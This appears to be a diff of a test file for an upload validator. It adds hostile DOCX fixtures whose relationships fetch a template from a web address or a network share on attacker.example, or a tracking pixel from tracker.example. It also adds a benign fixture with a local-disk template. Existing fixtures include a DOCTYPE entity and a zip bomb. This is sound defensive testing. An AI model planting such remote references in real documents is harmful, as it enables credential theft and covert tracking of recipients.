@@ -80,6 +80,12 @@ HOSTILE = {
     "template fetched from a web address": docx_with({
         "word/_rels/settings.xml.rels": relationships(
             ("attachedTemplate", "https://attacker.example/t.dotm", "External"))}),
+    "template fetched from a network share": docx_with({
+        "word/_rels/settings.xml.rels": relationships(
+            ("attachedTemplate", "\\\\attacker.example\\modeles\\t.dotm", "External"))}),
+    "image fetched from a web address": docx_with({
+        "word/_rels/document.xml.rels": relationships(
+            ("image", "https://tracker.example/pixel.png", "External"))}),
     "content types with a document type": docx_with({"[Content_Types].xml": (
         b'<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "aaaaaaaaaa">]><Types/>')}),
     # The zip bomb: 2 MB unpacking to 2 GiB.
@@ -147,6 +153,11 @@ ORDINARY = {
     "DOCX with a web link and a plain SVG image": (docx_with(
         {"word/media/image1.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>'},
         '<Default Extension="svg" ContentType="image/svg+xml"/>'),
+        "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
+    "DOCX made from a template on the author's disk": (docx_with({
+        "word/_rels/settings.xml.rels": relationships((
+            "attachedTemplate", "file:///C:\\Users\\coordo\\Modèles\\Mémoire.dotx",
+            "External"))}),
         "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
     "DOCX": (DOCX, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
     "ODT": (ODT, "application/vnd.oasis.opendocument.text"),
